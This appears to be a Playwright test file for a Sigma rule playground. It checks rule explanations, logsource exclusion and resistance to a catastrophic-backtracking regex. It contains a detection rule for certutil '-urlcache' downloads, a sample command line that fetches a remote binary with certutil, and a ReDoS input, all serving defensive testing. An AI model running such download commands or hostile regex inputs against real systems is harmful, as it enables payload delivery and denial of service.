import { expect, test } from '@playwright/test';
import { openPlayground, pasteInto } from './helpers';

/** What the tester says about one event, and how fast it says it on a hostile regex. */

const certutilRule = [
	'title: Certutil download',
	'logsource:',
	'    product: windows',
	'    category: process_creation',
	'detection:',
	'    selection_img:',
	"        Image|endswith: '\\certutil.exe'",
	'    selection_cli:',
	"        CommandLine|contains: '-urlcache'",
	'    filter:',
	"        User: 'NT AUTHORITY\\SYSTEM'",
	'    condition: all of selection_* and not filter'
].join('\n');

function windowsEvent(eventId: number, image: string, commandLine: string): unknown {
	return {
		Event: {
			System: {
				Provider: { Name: 'Microsoft-Windows-Sysmon' },
				EventID: eventId,
				Channel: 'Microsoft-Windows-Sysmon/Operational',
				Computer: 'ws1.corp.example'
			},
			EventData: { Image: image, CommandLine: commandLine, User: 'CORP\\alice' }
		}
	};
}

const certutil = 'C:\\Windows\\System32\\certutil.exe';

// Pretty-printed as a JSON array, the way events are often pasted.
const events = JSON.stringify(
	[
		windowsEvent(1, certutil, 'certutil -urlcache -f http://x/a.bin a.bin'),
		windowsEvent(1, certutil, 'certutil -hashfile a.bin'),
		windowsEvent(5, certutil, 'certutil -urlcache -f http://x/a.bin a.bin')
	],
	null,
	2
);

test.describe('the explanation', () => {
	test('shows the condition tree, the resolved field path and the value in the event', async ({
		page
	}) => {
		await openPlayground(page);
		await pasteInto(page, 'sigma-editor', certutilRule);
		await pasteInto(page, 'events-input', events);
		const rows = page.getByTestId('event-result');
		await expect(rows).toHaveCount(3);
		await expect(page.getByTestId('matched-count')).toHaveText('1');

		await rows.nth(0).click();
		const detail = page.getByTestId('event-explanation');
		await expect(detail).toContainText('Event #1');
		await expect(detail.getByTestId('explanation-summary')).toHaveText(
			"Matched: 'selection_img', 'selection_cli' held."
		);
		const tree = detail.getByTestId('condition-tree');
		await expect(tree).toContainText('all of selection_* and not filter');
		await expect(tree.getByTestId('condition-ref')).toHaveText([
			'selection_img',
			'selection_cli',
			'filter'
		]);
		await expect(tree.getByTestId('condition-ref').nth(2)).toHaveAttribute('data-value', 'false');
		await expect(tree).toContainText('not');

		const image = detail.getByTestId('explanation-item').first();
		await expect(image.getByTestId('item-path')).toHaveText('Event.EventData.Image');
		await expect(image.getByTestId('item-value')).toHaveText("'\\certutil.exe'");
		await expect(image).toContainText('"C:\\\\Windows\\\\System32\\\\certutil.exe"');
		// The compared values are highlighted in the event shown below and in the editor.
		const marks = detail.getByTestId('event-mark');
		await expect(marks.first()).toHaveText('"C:\\\\Windows\\\\System32\\\\certutil.exe"');
		await expect(marks.first()).toHaveClass(/hit/);
		await expect(page.getByTestId('events-input').locator('.cm-event-hit').first()).toHaveText(
			'"C:\\\\Windows\\\\System32\\\\certutil.exe"'
		);
		const editorHit = page.getByTestId('events-input').locator('.cm-event-hit').first();
		await expect(editorHit).toBeInViewport();
		// Clicking the row selected the event in the editor.
		await expect(
			page.getByTestId('events-input').locator('.cm-selectionBackground').first()
		).toBeAttached();

		// A miss names the closest selection and its first failed item, highlighted in red.
		await rows.nth(1).click();
		await expect(detail).toContainText('Event #2');
		const closest = detail.getByTestId('explanation-closest');
		await expect(closest).toContainText('Closest selection: selection_cli');
		await expect(closest).toContainText('CommandLine|contains');
		await expect(closest.getByTestId('item-path')).toHaveText('Event.EventData.CommandLine');
		await expect(detail.locator('mark.miss')).toHaveText('"certutil -hashfile a.bin"');
	});

	test('an event of another logsource does not match, and row and explanation say why', async ({
		page
	}) => {
		await openPlayground(page);
		await pasteInto(page, 'sigma-editor', certutilRule);
		await pasteInto(page, 'events-input', events);
		const third = page.getByTestId('event-result').nth(2);
		await expect(third).toHaveAttribute('data-matched', 'false');
		const reason =
			'Event 5 of channel Microsoft-Windows-Sysmon/Operational is not a process_creation event (expected 1).';
		await expect(third.getByTestId('event-logsource')).toHaveText(`logsource: ${reason}`);
		await expect(page.getByTestId('excluded-count')).toHaveText('1');
		await third.click();
		await expect(page.getByTestId('explanation-logsource')).toHaveText(`Logsource: ${reason}`);
		await expect(page.getByTestId('explanation-summary')).toContainText(`Not matched: ${reason}`);
		// The count of events set aside filters the list down to them.
		await page.getByTestId('filter-set-aside').click();
		await expect(page.getByTestId('event-result')).toHaveCount(1);
		await expect(page.getByTestId('event-result').locator('.index')).toHaveText('#3');
	});

	test('a hostile regular expression finishes at once with the right verdict', async ({ page }) => {
		await openPlayground(page);
		const rule = [
			'title: Hostile regex',
			'logsource:',
			'    category: process_creation',
			'detection:',
			'    selection:',
			"        CommandLine|re: '(a+)+$'",
			'    condition: selection'
		].join('\n');
		await pasteInto(page, 'sigma-editor', rule);
		// Backtracking engines take exponential time on this value; RE2 is linear.
		const hostile = `${'a'.repeat(50_000)}!`;
		const lines = [{ CommandLine: hostile }, { CommandLine: 'aaaa' }, { CommandLine: 'b' }];
		const started = Date.now();
		await pasteInto(page, 'events-input', lines.map((e) => JSON.stringify(e)).join('\n'));
		await expect(page.getByTestId('matched-count')).toHaveText('1');
		const rows = page.getByTestId('event-result');
		await expect(rows).toHaveCount(3);
		expect(Date.now() - started).toBeLessThan(3_000);
		await expect(rows.nth(0)).toHaveAttribute('data-matched', 'false');
		await expect(rows.nth(1)).toHaveAttribute('data-matched', 'true');
		await expect(rows.nth(2)).toHaveAttribute('data-matched', 'false');
		const elapsed = Number(
			(await page.getByTestId('match-elapsed').textContent())!.replace(/[^\d]/g, '')
		);
		expect(elapsed).toBeLessThan(500);
	});
});
